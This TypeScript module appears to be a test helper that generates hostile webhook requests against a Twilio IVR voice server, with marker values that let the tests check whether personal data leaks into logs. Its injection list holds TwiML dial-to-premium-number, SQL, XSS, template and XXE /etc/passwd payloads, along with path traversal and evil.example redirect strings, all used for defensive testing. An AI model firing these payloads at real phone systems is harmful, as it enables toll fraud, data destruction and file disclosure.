// What the hostile requests carry: markers, injections, odd values, routes, Twilio's signature.
// Markers are distinctive, so one found in the server's logs came from our requests.
import { randomBytes, randomInt } from "node:crypto";
import twilio from "twilio";
import { STEP_NAMES } from "../../../../ivr/src/contracts/menu-steps.ts";
import { FORM_FIELD_LIMIT, parseForm } from "../../../../ivr/src/transport/voice/twilio-form.ts";
import { newSid, standardParams } from "../../../phone/twilio-request.ts";
import { AUTH_TOKEN } from "../../harness/server.ts";

export const pick = <T>(items: readonly T[]): T => items[randomInt(items.length)]!;
export type Pairs = [string, string][];

/** The caller number of every hostile request. */
export const MARKER_PHONE = "+4915199999999";
export const MARKER_DIGITS = "4711471147114711";
export const speechMarker = () => `MARKER-SPEECH-${randomInt(1e9)}`;
/** Personal data we send (caller number, speech, digits, MARKER-NAME- names): never to be logged. */
export const LOG_MARKERS = ["15199999999", "MARKER-", MARKER_DIGITS];

/** Markup, template, SQL and SSML injections for SpeechResult, Digits, From and friends. */
export const INJECTIONS = [
  "</Say><Dial>+4990012345678</Dial><Say>",
  "</prosody></Say><Dial><Number>+4990012345678</Number></Dial>",
  "<script>alert(1)</script><![CDATA[</Say><Hangup/>]]> {{7*7}} <%= 7*7 %> '; DROP TABLE booking;-- ' OR '1'='1",
  '<speak><break time="100s"/><audio src="https://evil.example/x.mp3"/></speak>',
  '&lt;Dial&gt;+49900&lt;/Dial&gt; <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  "\u0000\u0001\u001b[31m\r\n<Redirect>https://evil.example/</Redirect>\u202e\u2066<Dial>\u2069",
];
const ODD_VALUES = ["", " ", "null", "NaN", "1e309", "-1", "[object Object]", "\ud800\u0000", "💣𝔘\u0301\ufeff\u200bЖ"];
const KEYS = "__proto__ constructor toString Digits[] CallSid[] From[0] a[b][c] [] % ÄÖÜ 💣 Digits".split(" ");

export const randomText = (): string =>
  pick([...ODD_VALUES, ...INJECTIONS, randomBytes(randomInt(1, 40)).toString("base64"), String(randomInt(1e9) / 1000)]);
export const randomKey = () => (randomInt(4) ? pick(KEYS) : randomBytes(randomInt(1, 12)).toString("hex"));

/** Already percent-encoded; %E0%A4%A and %ZZ are malformed (400). */
const BOGUS_STEPS =
  "nope DROP%20TABLE ..%2F..%2Fetc %3Cscript%3E __proto__ confirm%00 CONFIRM %F0%9F%92%A3 %E0%A4%A %ZZ".split(" ");
const IDS = ["", ..."1 -1 abc 1e30 1.5 99999999999999999999 %27%3B%20DROP%20TABLE%20x%3B--".split(" ")];
const OTHER_PATHS = [
  ..."/voice/queue/wait /voice/queue/left /voice/status /voice/callback/status /voice/fallback/choice".split(" "),
  ..."/voice/fallback/number?again=1 /voice/incoming?after=error /voice/unknown /voice/step/ /voice/agent".split(" "),
  `/voice/step/${"x".repeat(2000)}`,
];
const AGENTS = ["anna", "", "%3C%2FClient%3E%3CNumber%3E%2B49900%3C%2FNumber%3E"];

/** One /voice route: the menu's steps (the contract's list) most often, then bogus names and ids. */
export const randomRoute = (): string =>
  pick([
    () => "/voice/incoming",
    () => `/voice/${pick(["step", "step", "enter"])}/${pick(STEP_NAMES)}`,
    () => `/voice/${pick(["step", "step", "enter"])}/${pick(STEP_NAMES)}`,
    () => `/voice/${pick(["step", "enter"])}/${pick(BOGUS_STEPS)}`,
    () => pick(OTHER_PATHS),
    () => `/voice/callback/answer?request=${pick(IDS)}`,
    () => `/voice/agent/${pick(["connect", "callback"])}?agent=${pick(AGENTS)}&request=${pick(IDS)}`,
  ])();

/** The parameters Twilio sends with every webhook of a call from MARKER_PHONE. */
export const baseParams = (callSid = newSid("CA"), status = "in-progress"): Pairs =>
  Object.entries(standardParams({ callSid, accountSid: newSid("AC"), from: MARKER_PHONE, to: "+49800116117" }, status));

/** Keeps duplicated keys and their order; lone surrogates become U+FFFD. */
export const formBody = (pairs: Pairs) => new URLSearchParams(pairs).toString();

export const sign = (url: string, params: object, token = AUTH_TOKEN) =>
  twilio.getExpectedTwilioSignature(token, url, params as Record<string, string>);

/** Signed as the server's own form reader parses the body; over 100 fields it answers 413 anyway. */
export const signForm = (url: string, body: string, token = AUTH_TOKEN) =>
  sign(url, parseForm(body.split("&").slice(0, FORM_FIELD_LIMIT).join("&")), token);
